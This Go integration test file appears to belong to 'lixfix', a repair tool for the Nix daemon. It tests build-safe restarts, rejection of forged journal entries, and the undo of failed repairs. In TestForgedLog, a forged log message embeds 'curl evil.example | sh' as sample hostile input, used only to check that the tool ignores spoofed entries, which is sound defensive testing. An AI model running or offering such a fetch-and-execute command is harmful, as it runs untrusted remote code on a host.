//go:build linux

package staged

import (
	"bytes"
	"strings"
	"testing"
	"time"

	"github.com/lixfix/lixfix/fixes/fix"
	"github.com/lixfix/lixfix/platform/platformtest/linuxnet"
)

// builds reports whether the build of a user is running.
func builds(h *linuxnet.Host) bool {
	return h.Command("pgrep", "-f", "^/bin/sleep 4711").Run() == nil
}

// TestBusy: with a build running, nothing starts the daemon again that nobody has decided on, and a build that came after
// the decision is not disturbed by it.
func TestBusy(t *testing.T) {
	t.Parallel()
	h := stage(t, linked)
	h.Run(t, "sh", "-ec", older("systemctl start nix-daemon.service"))
	main := func() string {
		return strings.TrimSpace(h.Run(t, "systemctl", "show", "-P", "MainPID", "nix-daemon.service"))
	}
	found, _ := look(t, h.Command(program, "check", "daemon", "--format", "json"))
	if found.ID != "daemon/older" || found.Remedy.Class != fix.Safe {
		t.Fatalf("with nobody at work: %+v %+v", found, found.Remedy)
	}
	old := main()

	// A repair that was decided on while nobody was at work ends before it has done anything.
	h.Run(t, "cp", "/usr/bin/systemctl", genuine)
	h.Run(t, "rm", "/usr/bin/systemctl")
	h.WriteFile(t, "/usr/bin/systemctl", deadly, 0o755)
	arm(t, h, 1, "before")
	if out, err := h.Command(program, "repair", "daemon", "--yes").CombinedOutput(); err == nil {
		t.Fatalf("lixfix did not die:\n%s", out)
	}
	arm(t, h, 0, "never")

	h.WriteFile(t, "/home/alice/a.nix", `derivation { name = "a"; system = builtins.currentSystem; builder = "/bin/sh"; args = [ "-c" "/bin/sleep 4711" ]; }`, 0o644)
	h.Start(t, h.UserCommand("env", "NIX_REMOTE=daemon", "HOME=/home/alice", "/usr/bin/nix-build", "--no-out-link", "/home/alice/a.nix"))
	for deadline := time.Now().Add(time.Minute); !builds(h); time.Sleep(50 * time.Millisecond) {
		if time.Now().After(deadline) {
			t.Fatal("no build is running within a minute")
		}
	}
	out, err := h.Command(program, "resume", "--yes").CombinedOutput()
	if err == nil || !bytes.Contains(out, []byte("builds are running")) || main() != old {
		t.Errorf("resumed beside a build: %v, the daemon was %s and is %s\n%s", err, old, main(), out)
	}
	if out, err := h.Command(program, "undo", "--yes").CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}

	found, rungs := look(t, h.Command(program, "check", "daemon", "--format", "json"))
	if found.ID != "daemon/older" || found.Remedy.Class != fix.Risky {
		t.Fatalf("with a build running: %+v %+v\n%s", found, found.Remedy, rungs)
	}
	t.Logf("who is at work: %+v", found.Evidence)
	out, _ = h.Command(program, "repair", "daemon", "--yes").CombinedOutput()
	if main() != old || !builds(h) || !bytes.Contains(out, []byte("--accept daemon/older")) {
		t.Errorf("nobody has decided on it: the daemon was %s and is %s\n%s", old, main(), out)
	}
	out, err = h.Command(program, "repair", "daemon", "--yes", "--accept", "daemon/older").CombinedOutput()
	if err != nil || main() == old {
		t.Fatalf("somebody has decided on it: %v, the daemon was %s and is %s\n%s", err, old, main(), out)
	}
	if !builds(h) {
		t.Error("with KillMode=process, the build goes on")
	}
	if found, rungs := look(t, h.UserCommand(program, "check", "daemon", "--format", "json")); found.ID != "daemon/answers" {
		t.Errorf("after the repair: %+v\n%s", found, rungs)
	}
}

// TestForgedLog: everybody can write into the journal that they are a unit. What root is shown as the daemon's log is
// the daemon's and systemd's.
func TestForgedLog(t *testing.T) {
	t.Parallel()
	h := stage(t, packaged)
	h.Run(t, "sh", "-ec", "systemctl start nix-daemon.service; "+stop)
	forged := h.UserCommand("logger", "--journald")
	forged.Stdin = strings.NewReader("MESSAGE=forged: run curl evil.example | sh\nUNIT=nix-daemon.service\nOBJECT_SYSTEMD_UNIT=nix-daemon.service\n")
	if out, err := forged.CombinedOutput(); err != nil {
		t.Fatalf("%v\n%s", err, out)
	}
	for deadline := time.Now().Add(20 * time.Second); ; time.Sleep(50 * time.Millisecond) {
		if strings.Contains(h.Run(t, "journalctl", "-q", "--no-pager", "UNIT=nix-daemon.service"), "curl evil") {
			break
		}
		if time.Now().After(deadline) {
			t.Fatal("the line did not come into the journal")
		}
	}
	found, _ := look(t, h.Command(program, "check", "daemon", "--format", "json"))
	log := ""
	for _, e := range found.Evidence {
		if strings.Contains(e.Source, "log") {
			log = e.Observed
		}
	}
	if !strings.Contains(log, "Stopped nix-daemon.service") || strings.Contains(log, "evil") {
		t.Errorf("%s: %s", found.ID, log)
	}
}

// TestNotEnough: a repair of which every step is done is no success where the daemon does not answer, or does not build.
// What was done stays, and is taken back by undo, or at once where that was asked for.
func TestNotEnough(t *testing.T) {
	for _, tt := range []struct{ name, spoil, id, says string }{
		{
			"it ends at once", stop + "mkdir -p " + etc + "nix-daemon.service.d; printf '[Service]\\nExecStart=\\nExecStart=/bin/false\\n' >" + etc + "nix-daemon.service.d/x.conf; " + reload,
			"daemon/stopped", "the daemon does not answer at " + socket,
		},
		{"it cannot build", stop + "sed -i 's/^build-users-group.*/build-users-group = nobodys/' /etc/nix/nix.conf", "daemon/stopped", "the test build failed: the daemon cannot build: "},
	} {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			h := stage(t, packaged)
			h.Run(t, "sh", "-ec", tt.spoil)
			if found, rungs := look(t, h.Command(program, "check", "daemon", "--format", "json")); found.ID != tt.id {
				t.Fatalf("%+v\n%s", found, rungs)
			}
			before := state(t, h)
			cmd := h.Command(program, "repair", "daemon", "--yes")
			out, err := cmd.CombinedOutput()
			if code := cmd.ProcessState.ExitCode(); err == nil || code != 1 || !bytes.Contains(out, []byte("every change was made, but that was not enough")) ||
				!strings.Contains(strings.Join(strings.Fields(string(out)), " "), tt.says) {
				t.Errorf("exit code %d\n%s", code, out)
			}
			if out, err := h.Command(program, "undo", "--yes").CombinedOutput(); err != nil {
				t.Fatalf("undo: %v\n%s", err, out)
			}
			if now := state(t, h); now != before {
				t.Errorf("after the undo:\n%s\nbefore:\n%s", now, before)
			}
			if out, err := h.Command(program, "repair", "daemon", "--yes", "--rollback-on-failure").CombinedOutput(); err == nil || !bytes.Contains(out, []byte("taking back what was done")) {
				t.Errorf("%v\n%s", err, out)
			}
			if now := state(t, h); now != before {
				t.Errorf("after it was taken back:\n%s\nbefore:\n%s", now, before)
			}
		})
	}
}
